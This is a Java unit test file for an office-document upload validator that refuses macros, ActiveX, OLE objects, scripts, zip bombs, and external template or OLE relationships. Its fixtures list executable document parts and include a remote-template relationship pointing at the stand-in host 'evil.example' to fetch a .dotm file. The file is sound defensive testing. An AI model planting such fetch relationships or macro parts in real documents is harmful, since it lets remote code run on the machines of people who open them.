package vn.hocvuso.learning.media.paper;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import vn.hocvuso.kernel.RuleBroken;
import vn.hocvuso.learning.media.Zips;

class OfficeDocumentTest {

    static final String WORD = "<Types><Override PartName=\"/word/document.xml\" ContentType=\""
            + "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";

    @Test
    void documents_sheets_and_slides_are_known_by_what_is_in_them() throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var letter = new XWPFDocument()) {
            letter.createParagraph().createRun().setText("Kính gửi");
            letter.write(bytes);
        }
        assertThat(OfficeDocument.extension(bytes.toByteArray())).isEqualTo("docx");
        bytes.reset();
        try (var book = new XSSFWorkbook()) {
            book.createSheet();
            book.write(bytes);
        }
        assertThat(OfficeDocument.extension(bytes.toByteArray())).isEqualTo("xlsx");
        bytes.reset();
        try (var show = new XMLSlideShow()) {
            show.createSlide();
            show.write(bytes);
        }
        assertThat(OfficeDocument.extension(bytes.toByteArray())).isEqualTo("pptx");
        assertThat(OfficeDocument.extension(open("application/vnd.oasis.opendocument.text", "x", "x")))
                .isEqualTo("odt");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "word/vbaProject.bin",
                "WORD/VBAPROJECT.BIN",
                "word/activeX/activeX1.xml",
                "xl/macrosheets/sheet1.xml",
                "word/embeddings/oleObject1.bin",
                "customUI/customUI.xml",
            })
    void a_document_with_something_that_runs_is_refused(String part) {
        var macro = Zips.of("[Content_Types].xml", WORD, "word/document.xml", "<x/>", part, "x");
        assertRefused(macro, "media.document.macros");
    }

    @Test
    void a_document_that_calls_itself_one_with_macros_is_refused() {
        var types = "<Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>";
        assertRefused(Zips.of("[Content_Types].xml", types), "media.document.macros");
        assertRefused(
                open("application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml", "x"),
                "media.document.macros");
        assertRefused(
                open("application/vnd.oasis.opendocument.text", "Scripts/python/a.py", "x"), "media.document.macros");
    }

    @ParameterizedTest
    @CsvSource({
        "attachedTemplate, External, true",
        "oleObject, External, true",
        "hyperlink, External, false",
        "attachedTemplate, Internal, false",
    })
    void a_document_that_fetches_something_when_it_is_opened_is_refused(String type, String mode, boolean refused) {
        var relations = "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/"
                + "officeDocument/2006/relationships/" + type + "\" Target=\"http://evil.example/x.dotm\" TargetMode=\""
                + mode + "\"/></Relationships>";
        var letter = Zips.of("[Content_Types].xml", WORD, "word/_rels/settings.xml.rels", relations);
        if (refused) {
            assertRefused(letter, "media.document.fetches");
        } else {
            assertThat(OfficeDocument.extension(letter)).isEqualTo("docx");
        }
    }

    @Test
    void another_zip_is_no_document_and_a_bomb_is_none_either() {
        assertRefused(Zips.of("readme.txt", "x"), "media.zip.other");
        assertRefused(Zips.of("inner.zip", "PK"), "media.zip.other");
        assertRefused(open("application/x-evil", "x", "x"), "media.zip.other");
        var bomb = new Zips("UTF-8")
                .with("[Content_Types].xml", WORD.getBytes())
                .with("word/document.xml", new byte[30_000_000])
                .bytes();
        assertRefused(bomb, "media.zip.bomb");
    }

    private static byte[] open(String type, String part, String content) {
        return Zips.of("mimetype", type, "content.xml", "<x/>", part, content);
    }

    private static void assertRefused(byte[] file, String why) {
        assertThatThrownBy(() -> OfficeDocument.extension(file))
                .isInstanceOf(RuleBroken.class)
                .hasMessage(why);
    }
}
